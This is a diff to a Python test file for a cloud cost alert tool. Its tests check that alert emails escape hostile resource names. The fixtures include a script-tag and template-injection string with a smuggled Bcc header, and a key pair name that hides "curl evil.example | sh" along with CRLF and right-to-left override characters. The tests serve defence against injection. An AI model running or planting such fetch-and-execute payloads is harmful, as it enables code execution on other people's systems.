@@ -1,7 +1,9 @@
-"""Email messages rendered from alerts: golden files for the reference incident, hostile names.
+"""Email messages rendered from alerts: golden files for a hand-written incident, hostile names.
 
-Golden files live in tests/notifiers/golden/. After a deliberate template change, regenerate them
-with `UPDATE_GOLDEN=1 pytest tests/test_messages.py`, read the diff, and commit what you checked.
+Golden files live in tests/notifiers/golden/ (the demo's own alerts are in
+tests/notifiers/test_alert_layout.py). After a deliberate template change, regenerate them with
+`COSTGUARD_REGEN_GOLDEN=1 pytest tests/alerts/test_compose.py tests/notifiers/test_alert_layout.py`,
+read the diff, and commit what you checked.
 """
 
 from __future__ import annotations
@@ -14,19 +16,18 @@ from pathlib import Path
 import pytest
 
 from costguard.alerts.alert import Alert, AlertFinding, RemediationStep
-from costguard.alerts.compose import (
-    SUBJECT_MAX,
-    accounts_label,
-    build_message,
-    duration,
-    fact_value,
-    scope_rows,
-)
+from costguard.alerts.compose import SUBJECT_MAX, accounts_label, build_message
+from costguard.alerts.evidence import phase_lookup
+from costguard.alerts.message_parts import duration, fact_value, scope_rows
+from costguard.alerts.playbook import build_actions
 from costguard.alerts.render import Renderer
+from costguard.checks import default_registry
 from costguard.model import AlertKind, Severity, root_arn
 from costguard.notifiers.smtp import SmtpParams, build_email
 
 GOLDEN = Path(__file__).parents[1] / "notifiers" / "golden"
+REGEN = "COSTGUARD_REGEN_GOLDEN"
+"""Set to 1 to write the golden files from what the templates render now."""
 ACCOUNT = "123456789012"
 PRINCIPAL = f"arn:aws:iam::{ACCOUNT}:user/ci-deploy"
 GROUP = "sg-0a1b2c3d4e5f67890"
@@ -116,8 +117,11 @@ NEW = Alert(
     facts={
         "first_activity": at(2, 11),
         "instances_running": 10,
-        "estimated_cost_per_hour_usd": 6.8,
-        "estimated_cost_per_day_usd": 163.2,
+        # the money facts as costguard.alerts.money writes them
+        "burn_rate_now_usd_per_hour": 7.25, "burn_rate_regions": ["us-east-1"],
+        "added_usd_per_hour": 6.8, "incident_instances": 10, "cost_so_far_usd": 0.45,
+        "cost_since": at(6, 19), "cost_as_of": at(10, 5),
+        "projected_to_month_end_usd": 4997.25,
     },
 )
 
@@ -131,7 +135,9 @@ ALERTS = {
         NEW, kind=AlertKind.RESOLVED, key="incident:42:resolved", created_at=at(57, 10),
         findings=tuple(replace(f, status="resolved", last_seen=at(52)) for f in FINDINGS),
         remediation=(), scope={},
-        facts={"time_to_fix": timedelta(minutes=47, seconds=5), "thread_key": "incident:42:new"},
+        facts={"time_to_fix": timedelta(minutes=47, seconds=5), "thread_key": "incident:42:new",
+               "added_usd_per_hour": 6.8, "incident_instances": 10, "cost_so_far_usd": 5.77,
+               "cost_since": at(6, 19), "cost_as_of": at(57, 10)},
     ),
     "digest": Alert(
         kind=AlertKind.DIGEST, key="digest:2024-05-01", title="Daily digest: 2 open findings",
@@ -163,12 +169,12 @@ def test_rendered_email_matches_golden_file(name, suffix):
     if suffix == "subject.txt":
         rendered += "\n"  # so the golden file is a normal text file
     golden = GOLDEN / f"{name}.{suffix}"
-    if os.environ.get("UPDATE_GOLDEN") == "1":
+    if os.environ.get(REGEN) == "1":
         golden.parent.mkdir(parents=True, exist_ok=True)
         golden.write_bytes(rendered.encode("utf-8"))
         pytest.skip(f"wrote {golden}: read the diff before committing it")
     if not golden.exists():
-        pytest.fail(f"{golden} is missing: run with UPDATE_GOLDEN=1 and check the output")
+        pytest.fail(f"{golden} is missing: run with {REGEN}=1 and check the output")
     assert rendered == golden.read_bytes().decode("utf-8")
 
 
@@ -234,9 +240,9 @@ def test_hostile_names_are_escaped_in_html():
 
     assert "<script>" not in html
     assert "{{ 7*7 }}" in html and "49" not in html
-    # title, subject in <title>, finding title and resource, scope, timeline, fact,
-    # step title, step body: every place shows the escaped text.
-    assert html.count(ESCAPED) == 9
+    # title, subject in <title>, finding title, scope, timeline, fact, step title, step body:
+    # every place shows the escaped text.
+    assert html.count(ESCAPED) == 8
 
 
 def test_hostile_names_are_literal_text_and_keep_their_lines_in_text():
@@ -246,7 +252,7 @@ def test_hostile_names_are_literal_text_and_keep_their_lines_in_text():
     lines = text.splitlines()
     assert "CRITICAL: Key pair <script>alert(1)</script> {{ 7*7 }} Bcc: evil@x" in lines
     assert "  Tag owner: <script>alert(1)</script> {{ 7*7 }} Bcc: evil@x" in lines
-    assert "    <script>alert(1)</script> {{ 7*7 }} Bcc: evil@x" in lines  # the key pair
+    assert "  Key pairs: <script>alert(1)</script> {{ 7*7 }} Bcc: evil@x" in lines
     # Only the multi-line remediation body keeps its line break.
     assert [line for line in lines if line.startswith("Bcc:")] == ["Bcc: evil@x"]
 
@@ -316,4 +322,41 @@ def test_scope_rows_skip_empty_lists_known_keys_first():
         {"buckets": ["b"], "instances": [], "principals": "arn:p", "source_ips": None}
     )
 
-    assert rows == (("Principals", ("arn:p",)), ("Buckets", ("b",)))
+    assert rows == (("Principals", "arn:p"), ("Buckets", "b"))
+
+
+# --- a hostile name in the first actions: capped where shown, whole where run ---------------
+
+EVIL_KEY_PAIR = "xmrig'; curl evil.example | sh #\r\nBcc: x@y \u202egpj.exe " + "k" * 10_000
+
+
+def playbook_alert() -> Alert:
+    """An instance and its key pair named by the attacker, in the first actions."""
+    finding = replace(
+        FINDINGS[1], entities=frozenset({
+            f"instance:{INSTANCES[0]}", f"keypair:{ACCOUNT}:us-east-1:{EVIL_KEY_PAIR}"}),
+        title=f"Instance with key pair {EVIL_KEY_PAIR}")
+    actions = build_actions([finding], phase_lookup(default_registry()))
+    return replace(NEW, findings=(finding,), actions=actions, remediation=(), scope={},
+                   timeline=())
+
+
+def test_a_hostile_key_pair_is_quoted_whole_in_the_command_and_capped_in_the_sentence():
+    text = build_message(playbook_alert(), Renderer()).text
+    lines = text.splitlines()
+
+    command = next(line.strip() for line in lines if "delete-key-pair" in line)
+    assert command.startswith("aws ec2 delete-key-pair --region us-east-1 --key-name $'xmrig")
+    assert "k" * 10_000 in command  # the whole name, or the command deletes another key pair
+    sentence = next(line for line in lines if line.startswith("2. Delete key pair"))
+    assert len(sentence) < 400 and "\u2026" in sentence and "k" * 300 not in sentence
+    assert "\u202e" not in text and "<U+202E>" in sentence
+    assert not any(line.startswith("Bcc:") for line in lines)
+
+
+def test_a_hostile_key_pair_stays_text_in_html():
+    html = build_message(playbook_alert(), Renderer()).html
+
+    assert "<script" not in html and "\u202e" not in html
+    assert html.count("k" * 10_000) == 1  # only in the command
+    assert "xmrig&#39;; curl evil.example | sh #" in html
